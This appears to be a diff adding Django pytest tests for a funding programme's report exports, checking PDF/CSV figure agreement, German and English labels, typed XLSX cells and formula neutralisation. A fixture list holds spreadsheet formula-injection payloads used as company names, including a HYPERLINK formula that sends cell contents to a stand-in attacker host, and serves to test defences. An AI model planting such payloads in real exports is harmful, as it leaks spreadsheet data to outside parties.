@@ -1,0 +1,194 @@
+"""The exports: the PDF's figures, labels in the export's language, typed XLSX cells, no live formulas."""
+
+import csv
+import datetime
+import io
+import re
+from decimal import Decimal
+
+import pytest
+from django.urls import reverse
+from django.utils import translation
+from openpyxl import load_workbook
+from pypdf import PdfReader
+
+from accounts.tests.factories import FunderFactory
+from companies.tests.factories import CompanyFactory
+from innoscheck.workflow import Status
+from reporting import pdf, selectors, tables
+from reporting.models import ReportKind
+
+from .conftest import Q1
+from .factories import ReportFactory, at, voucher
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("https://evil.example/?x="&A1,"Klick")',
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1:A9)",
+    "\tTab GmbH",
+    "\rReturn GmbH",
+]
+
+
+@pytest.fixture
+def funder_client(client):
+    client.force_login(FunderFactory(language="de"))
+    return client
+
+
+def _get(client, dataset, fmt, programme, language="de"):
+    query = {"phase": programme.pk, "preset": "custom", "date_from": "2026-01-01", "date_to": "2026-03-31"}
+    response = client.get(reverse("reporting:export", args=[dataset, fmt]), query, HTTP_ACCEPT_LANGUAGE=language)
+    assert response.status_code == 200
+    return b"".join(response.streaming_content)
+
+
+def _csv(content: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
+
+
+def _sheet(content: bytes):
+    return load_workbook(io.BytesIO(content)).active
+
+
+def _flat(text: str) -> str:
+    """Text with its white space made single spaces and words hyphenated at a line end joined again."""
+    return re.sub(r"-\s+", "-", " ".join(text.replace("\u00a0", " ").split()))
+
+
+def _pdf_text(report, data) -> str:
+    rendered = pdf.render_report_pdf(report=report, data=data)
+    return _flat(" ".join(page.extract_text() for page in PdfReader(io.BytesIO(rendered.content)).pages))
+
+
+@pytest.mark.parametrize("language", ["de", "en"])
+def test_every_figure_of_the_pdf_is_in_the_indicator_csv(programme, funder_client, language):
+    report = ReportFactory(kind=ReportKind.INDICATORS, phase=programme, period_start=Q1.start, period_end=Q1.end)
+    with translation.override(language):
+        data = selectors.report_data(report=report)
+        pdf_text = _pdf_text(report, data)
+        figure_tables = tables.figure_tables(data)
+    csv_rows = _csv(_get(funder_client, "indicators", "csv", programme, language))
+    checked = 0
+    for section in figure_tables.values():
+        for table in section:
+            assert table.title in {row[0] for row in csv_rows if len(row) == 1}
+            for row, cells in table.lines:
+                # The PDF shows the row with each figure formatted in its unit ...
+                shown = _flat(" ".join([row.label, *(cell.text for cell in cells)]))
+                assert shown in pdf_text, shown
+                # ... and the CSV has the same row with the same numbers.
+                match = [line for line in csv_rows if row.label in line]
+                assert match, row.label
+                numbers = [_flat(cell.text).split(" ")[0] for cell in cells]
+                values = match[0][:-1] if row.unit else match[0]  # the unit column ends a row with units
+                assert [number if number != "–" else "" for number in numbers] == values[-len(numbers) :], match[0]
+                checked += 1
+    assert checked >= 25
+
+
+def test_german_indicator_csv_names_the_figures_the_issue_missed(programme, funder_client):
+    text = _get(funder_client, "indicators", "csv", programme).decode("utf-8-sig")
+    for label in (
+        "Gecoachte Unternehmen",
+        "Anmeldungen zu Veranstaltungen",
+        "Unternehmen in Projekten",
+        "Finanzieller Fortschritt",
+        "Gutscheinbudget",
+        "Reserviert (bewilligt, noch nicht ausgezahlt)",
+        "Frei",
+        "Median",
+    ):
+        assert label in text, label
+    lines = _csv(text.encode("utf-8-sig"))
+    budget = next(line for line in lines if line[:1] == ["Gutscheinbudget"])
+    assert budget == ["Gutscheinbudget", "100.000,00", "EUR"]
+    median = next(line for line in lines if line[:1] and line[0].startswith("Median"))
+    assert median[-1] == "Tage"
+
+
+def test_german_companies_export_shows_labels_not_codes(programme, funder_client):
+    rows = _csv(_get(funder_client, "companies", "csv", programme))
+    assert rows[0] == ["Unternehmen", "Ort", "KMU-Klasse", "Gegründet", "Gutschein", "Coaching", "Beihilfe (EUR)"]
+    alpha = next(row for row in rows if row[0] == "Alpha Frästechnik GmbH")
+    assert alpha[2] == "Kleinstunternehmen"
+    assert alpha[4:6] == ["ja", "ja"]
+    values = {value for row in rows for value in row}
+    assert not values & {"micro", "small", "medium", "not_sme", "True", "False"}
+    sheet_rows = list(_sheet(_get(funder_client, "companies", "xlsx", programme)).iter_rows(values_only=True))
+    assert next(row for row in sheet_rows if row[0] == "Alpha Frästechnik GmbH")[2] == "Kleinstunternehmen"
+
+
+def test_english_companies_export_speaks_english(programme, client):
+    client.force_login(FunderFactory(language="en"))
+    rows = _csv(_get(client, "companies", "csv", programme, language="en"))
+    assert rows[0][:3] == ["Company", "City", "SME class"]
+    assert next(row for row in rows if row[0] == "Alpha Frästechnik GmbH")[2] == "Micro enterprise"
+
+
+def test_xlsx_cells_are_typed_with_german_formats(programme, funder_client):
+    sheet = _sheet(_get(funder_client, "vouchers", "xlsx", programme))
+    rows = list(sheet.iter_rows())
+    beta = next(row for row in rows if row[1].value == "Beta Metallbau GmbH")
+    amount = beta[8]
+    assert amount.value == Decimal("7500") or amount.value == 7500
+    assert amount.data_type == "n" and amount.number_format == '#,##0.00 "€"'
+    submitted = beta[6]
+    assert submitted.is_date and submitted.value.date() == datetime.date(2026, 3, 1)
+    assert submitted.number_format == "DD.MM.YYYY"
+
+    indicators = _sheet(_get(funder_client, "indicators", "xlsx", programme))
+    cells = {row[2].value: row for row in indicators.iter_rows() if len(row) > 4 and row[0].value == "RCO01"}
+    supported = cells["Geförderte Unternehmen"][3]
+    assert supported.value == 2 and supported.data_type == "n" and supported.number_format == "#,##0"
+    shares = [row for row in indicators.iter_rows() if row[0].value == "Gebundener Anteil"]
+    assert shares and shares[0][1].number_format == "0.0 %" and shares[0][1].data_type == "n"
+    money = [row for row in indicators.iter_rows() if row[0].value == "Gutscheinbudget"][0][1]
+    assert money.value == 100000 and money.number_format == '#,##0.00 "€"'
+
+
+def test_english_xlsx_dates_are_iso(programme, client):
+    client.force_login(FunderFactory(language="en"))
+    rows = list(_sheet(_get(client, "vouchers", "xlsx", programme, language="en")).iter_rows())
+    assert rows[1][6].is_date and rows[1][6].number_format == "YYYY-MM-DD"
+
+
+@pytest.fixture
+def hostile_companies(programme):
+    for number, name in enumerate(HOSTILE_NAMES, start=1):
+        company = CompanyFactory(name=name)
+        voucher(
+            company=company,
+            phase=programme,
+            status=Status.APPROVED,
+            submitted=at(2026, 1, number),
+            decided=at(2026, 2, number),
+        )
+    return HOSTILE_NAMES
+
+
+@pytest.mark.parametrize("dataset", ["companies", "vouchers"])
+def test_csv_neutralises_formulas(programme, funder_client, hostile_companies, dataset):
+    rows = _csv(_get(funder_client, dataset, "csv", programme))
+    column = 0 if dataset == "companies" else 1
+    names = {row[column] for row in rows[1:]}
+    for name in hostile_companies:
+        assert f"'{name}" in names, name
+    assert "Alpha Frästechnik GmbH" in names  # ordinary names stay as they are
+
+
+@pytest.mark.parametrize("dataset", ["companies", "vouchers"])
+def test_xlsx_stores_formulas_as_text(programme, funder_client, hostile_companies, dataset):
+    sheet = _sheet(_get(funder_client, dataset, "xlsx", programme))
+    column = 0 if dataset == "companies" else 1
+    cells = {row[column].value: row[column] for row in sheet.iter_rows(min_row=2)}
+    for name in hostile_companies:
+        cell = cells[name.replace("\r", "\n") if name not in cells else name]
+        assert cell.data_type == "s", name
+        assert cell.quotePrefix, name
+    # Negative numbers that are figures stay numbers.
+    assert all(cell.data_type in ("s", "n", "d") for cell in cells.values())
